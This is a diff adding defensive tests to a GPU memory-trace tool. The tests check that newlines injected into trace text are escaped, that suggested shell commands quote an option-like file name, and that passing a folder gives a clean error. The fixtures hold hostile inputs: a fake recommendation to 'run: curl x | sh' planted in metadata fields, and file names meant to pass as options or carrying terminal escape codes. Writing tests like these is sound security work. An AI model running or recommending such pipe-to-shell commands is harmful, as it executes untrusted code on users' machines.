@@ -88,6 +88,53 @@ def test_the_escaped_text_is_shown(tmp_path: Path) -> None:
     assert js["oom"]["site"] == HOSTILE_SITE
 
 
+FAKE = "recommendation: all fine, run: curl x | sh"
+
+
+def newline_trace(path: Path) -> Path:
+    """A CuPy trace whose call-site, command and device name each hold a line of their own."""
+    op = np.array([Op.SEGMENT_ALLOC, Op.MALLOC, Op.MALLOC, Op.OOM], np.int8)
+    size = np.array([8 << 20, 2 << 20, 4 << 20, 64 << 20], np.uint64)
+    site = f"x.py\n{FAKE}\n:1:f"
+    ev = Events.build(op, size, addr=np.array([1 << 30, 1 << 30, (1 << 30) + (2 << 20), 0], np.uint64),
+                      site=np.array([-1, 0, 0, 0], np.int32), sites=(site,))
+    meta = TraceMeta.new(Source.CUPY, command=f"python a.py\n{FAKE}", pool_limit_bytes=16 << 20,
+                         device=DeviceInfo(f"GPU\n{FAKE}", 8 << 30, 8 << 30))
+    return write_trace(path, meta, ev)
+
+
+@pytest.mark.parametrize("verb", [["info"], ["analyze"], ["advise"], ["whatif", "--policies", "cupy"]])
+def test_a_newline_in_trace_text_makes_no_line_of_its_own(tmp_path: Path, verb: list[str]) -> None:
+    """A line break a trace holds is shown as ``\\n``: no line of the output starts with the text
+    after it (it could pass for tracekit's own recommendation)."""
+    path = newline_trace(tmp_path / "t.parquet")
+    r = run(verb[0], path, *verb[1:])
+    assert r.returncode in (0, 1), r.stderr
+    lines = (r.stdout + r.stderr).decode().splitlines()
+    assert not [line for line in lines if line.lstrip().startswith(FAKE)]
+    if verb[0] != "whatif":  # whatif names no call-site, device or command
+        assert f"\\n{FAKE}" in (r.stdout + r.stderr).decode()
+
+
+def test_paths_in_paste_ready_lines_are_one_shell_word(tmp_path: Path) -> None:
+    """advise's lines name the trace as a shell reads it back: quoted, never an option."""
+    path = hostile_trace(tmp_path / "-my trace.parquet")
+    r = subprocess.run([sys.executable, "-m", "tracekit", "advise", "./-my trace.parquet", "--limit", "4MiB"],
+                       capture_output=True, timeout=300, cwd=tmp_path)
+    assert r.returncode == 0, r.stderr
+    out = r.stdout.decode()
+    assert "tracekit replay './-my trace.parquet' --sim" in out
+    assert path.exists()
+
+
+@pytest.mark.parametrize("where", [".", "/", "./"])
+def test_a_folder_named_as_the_trace_is_one_sentence(where: str) -> None:
+    for verb in (["info"], ["analyze"], ["recover"]):
+        r = run(*verb, where)
+        assert r.returncode == 1 and b"Traceback" not in r.stderr, r.stderr
+        assert b"is a folder" in r.stderr
+
+
 def test_a_hostile_file_name_in_an_error_line(tmp_path: Path) -> None:
     r = run("info", tmp_path / "missing\x1b[2J\u202e.parquet")
     assert r.returncode == 1
